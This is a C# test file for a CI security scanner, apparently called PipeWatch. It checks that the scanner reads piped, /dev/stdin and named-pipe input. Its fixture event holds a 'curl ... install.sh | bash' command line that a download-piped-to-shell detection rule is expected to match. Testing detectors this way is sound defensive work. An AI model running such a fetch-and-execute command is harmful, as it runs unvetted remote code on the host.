using System.Diagnostics;
using System.Text;
using PipeWatch.Tests.Sources.JobLogs;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Cli.Hostile;

/// <summary><c>cat x | pipewatch ingest -</c>, <c>/dev/stdin</c> and a named pipe: read once, streamed, the format told from the first bytes without seeking.</summary>
public sealed class PipeInputTests : IDisposable
{
    private const string Piped = """{"@timestamp": "2026-11-20T10:17:00Z", "event": {"category": ["process"], "type": ["start"], "id": "pipe-1"}, "process": {"executable": "/usr/bin/bash", "command_line": "/bin/sh -c curl -sSfL https://example.net/install.sh | bash", "parent": {"executable": "/home/runner/actions-runner/bin/Runner.Worker"}}, "host": {"os": {"type": "linux"}}, "ci": {"repository": "acme/payments-api", "run_id": "7100000041", "platform": "github"}}""";
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task Json_lines_on_standard_input_are_ingested_with_dash()
    {
        var input = string.Join('\n', Enumerable.Range(0, 3).Select(i => Piped.Replace("pipe-1", $"pipe-{i}", StringComparison.Ordinal))) + "\n";

        var result = await CliProcess.RunAsync(_temp.Path, null, new MemoryStream(Encoding.UTF8.GetBytes(input)), TimeSpan.FromMinutes(1), "ingest", "-", "--format", "json");

        Assert.Equal(1, result.ExitCode);
        Assert.Contains("ingested 1 file: 3 events", result.Error, StringComparison.Ordinal);
        Assert.Equal(3, result.OutputLines.Count(l => l.Contains("\"category\":\"code-change.pipeline-tampering\"", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task A_job_log_on_dev_stdin_is_recognized_and_scanned()
    {
        await using var log = File.OpenRead(JobLogFixtures.GitHubLog);

        var result = await CliProcess.RunAsync(_temp.Path, null, log, TimeSpan.FromMinutes(1), "ingest", "/dev/stdin", "--format", "json");

        Assert.Equal(1, result.ExitCode);
        Assert.Contains("\"category\":\"secrets.exposed-in-log\"", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_named_pipe_given_by_name_is_read()
    {
        var fifo = _temp.File("events.jsonl");
        using (var mkfifo = Process.Start("mkfifo", [fifo])!) mkfifo.WaitForExit();
        var writer = Task.Run(() => File.WriteAllText(fifo, Piped + "\n"), TestContext.Current.CancellationToken);

        var result = await CliProcess.RunAsync(_temp.Path, null, null, TimeSpan.FromMinutes(1), "ingest", "events.jsonl", "--format", "json");
        await writer;

        Assert.Equal(1, result.ExitCode);
        Assert.Contains("ingested 1 file: 1 events", result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Rules_test_reads_events_from_standard_input()
    {
        var rule = Path.Combine(Corpus.RepositoryRoot, "rules", "sigma", "linux", "proc_download_piped_to_shell.yml");

        var result = await CliProcess.RunAsync(_temp.Path, null, new MemoryStream(Encoding.UTF8.GetBytes(Piped + "\n")), TimeSpan.FromMinutes(1), "rules", "test", rule, "-");

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("MATCH", result.Output, StringComparison.Ordinal);
    }
}
